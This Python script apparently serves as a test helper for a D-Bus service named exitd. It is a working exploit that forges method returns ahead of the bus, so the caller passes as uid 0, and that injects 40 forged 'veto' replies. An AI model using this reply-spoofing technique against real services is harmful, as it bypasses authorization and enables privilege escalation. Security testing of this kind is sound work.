#!/usr/bin/env python3
"""A caller that forges answers to exitd, on a bus that lets it.

usage: dbus-forge.py SOCKET check|voter

Connects to the bus at SOCKET (a unix socket path) as whoever runs it and
learns exitd's next message serial from a ListParticipants reply.

check: sends Manager.Check (a validation) followed, in the same write, by
method returns addressed to exitd with the next serials as reply serials,
each saying uid 0: what exitd asks the bus about the caller
(GetConnectionUnixUser) would be answered by this caller before the bus
answers.  Prints "return" if Check was carried out, or "error NAME:
MESSAGE".

voter: prints "serial N", waits for a line on standard input (sent once
exitd has called a voter), then sends method returns for the next 40
serials, each a Check answer (i 0, u 0, s "forged veto"), and prints
"sent".

Exits 0 once done, 1 if the bus refused it.
"""
import os
import socket
import struct
import sys

BUS = 'org.freedesktop.DBus'
EXITD = 'org.exitpt.Exitd1'
PATH = '/org/exitpt/Exitd1'
MANAGER = 'org.exitpt.Exitd1.Manager'
CALL, RETURN, ERROR = 1, 2, 3


class Writer:
    """Little-endian D-Bus marshalling of the few types used here."""

    def __init__(self):
        self.b = b''

    def align(self, n):
        self.b += b'\0' * ((-len(self.b)) % n)

    def u32(self, v):
        self.align(4)
        self.b += struct.pack('<I', v)

    def string(self, v):
        v = v.encode()
        self.u32(len(v))
        self.b += v + b'\0'

    def signature(self, v):
        v = v.encode()
        self.b += bytes([len(v)]) + v + b'\0'


def message(kind, serial, fields, sig, body):
    """A message: fields is a list of (code, type, value)."""
    f = Writer()
    for code, t, value in fields:
        f.align(8)
        f.b += bytes([code])
        f.signature(t)
        if t in ('s', 'o'):
            f.string(value)
        elif t == 'u':
            f.u32(value)
        else:
            f.signature(value)
    if sig:
        f.align(8)
        f.b += bytes([8])
        f.signature('g')
        f.signature(sig)
    h = Writer()
    h.b = b'l' + bytes([kind, 0, 1])
    h.u32(len(body))
    h.u32(serial)
    h.u32(len(f.b))
    h.b += f.b
    h.align(8)
    return h.b + body


def call(serial, dest, path, iface, member, sig='', body=b''):
    """A method call."""
    return message(CALL, serial, [(1, 'o', path), (2, 's', iface),
                                  (3, 's', member), (6, 's', dest)],
                   sig, body)


class Reader:
    """Messages from the socket, one at a time."""

    def __init__(self, sock):
        self.sock = sock
        self.buf = b''

    def need(self, n):
        while len(self.buf) < n:
            data = self.sock.recv(65536)
            if not data:
                raise EOFError('the bus closed the connection')
            self.buf += data

    def next(self):
        """(type, serial, reply_serial, error name, body) of the next."""
        self.need(16)
        blen, serial, flen = struct.unpack('<III', self.buf[4:16])
        hlen = 16 + flen + ((-(16 + flen)) % 8)
        self.need(hlen + blen)
        kind = self.buf[1]
        fields = self.buf[16:16 + flen]
        body = self.buf[hlen:hlen + blen]
        self.buf = self.buf[hlen + blen:]
        reply_serial = error = None
        i = 0
        while i < len(fields):
            i += (-i) % 8
            code, slen = fields[i], fields[i + 1]
            t = fields[i + 2:i + 2 + slen].decode()
            i += 3 + slen
            if t == 'u':
                i += (-i) % 4
                if code == 5:
                    reply_serial = struct.unpack('<I', fields[i:i + 4])[0]
                i += 4
            elif t in ('s', 'o'):
                i += (-i) % 4
                n = struct.unpack('<I', fields[i:i + 4])[0]
                if code == 4:
                    error = fields[i + 4:i + 4 + n].decode()
                i += 4 + n + 1
            else:
                n = fields[i]
                i += 1 + n + 1
        return kind, serial, reply_serial, error, body

    def reply(self, serial):
        """The reply to our call serial; other messages are skipped."""
        while True:
            m = self.next()
            if m[0] in (RETURN, ERROR) and m[2] == serial:
                return m


def first_string(body):
    """The first s of a body."""
    n = struct.unpack('<I', body[:4])[0]
    return body[4:4 + n].decode(errors='replace')


def main():
    sock = socket.socket(socket.AF_UNIX)
    sock.settimeout(10)
    sock.connect(sys.argv[1])
    uid = str(os.getuid()).encode().hex().encode()
    sock.sendall(b'\0AUTH EXTERNAL ' + uid + b'\r\n')
    if not sock.recv(4096).startswith(b'OK'):
        print('the bus refused the authentication')
        return 1
    sock.sendall(b'BEGIN\r\n')
    r = Reader(sock)
    sock.sendall(call(1, BUS, '/org/freedesktop/DBus', BUS, 'Hello'))
    r.reply(1)
    w = Writer()
    w.string(EXITD)
    sock.sendall(call(2, BUS, '/org/freedesktop/DBus', BUS, 'GetNameOwner',
                      's', w.b))
    exitd = first_string(r.reply(2)[4])
    sock.sendall(call(3, EXITD, PATH, MANAGER, 'ListParticipants'))
    last = r.reply(3)[1]
    if sys.argv[2] == 'voter':
        print('serial %d' % last, flush=True)
        sys.stdin.readline()
        data = b''
        for k in range(1, 41):
            veto = Writer()
            veto.u32(0)
            veto.u32(0)
            veto.string('forged veto')
            data += message(RETURN, 3 + k, [(5, 'u', last + k),
                                            (6, 's', exitd)], 'ius', veto.b)
        sock.sendall(data)
        print('sent', flush=True)
        return 0
    w = Writer()
    w.string('migration')
    w.u32(1)
    data = call(4, EXITD, PATH, MANAGER, 'Check', 'sb', w.b)
    for k in range(1, 5):
        uid0 = Writer()
        uid0.u32(0)
        data += message(RETURN, 4 + k, [(5, 'u', last + k), (6, 's', exitd)],
                        'u', uid0.b)
    sock.sendall(data)
    kind, _, _, error, body = r.reply(4)
    if kind == RETURN:
        print('return')
    else:
        print('error %s: %s' % (error, first_string(body)))
    return 0


if __name__ == '__main__':
    sys.exit(main())
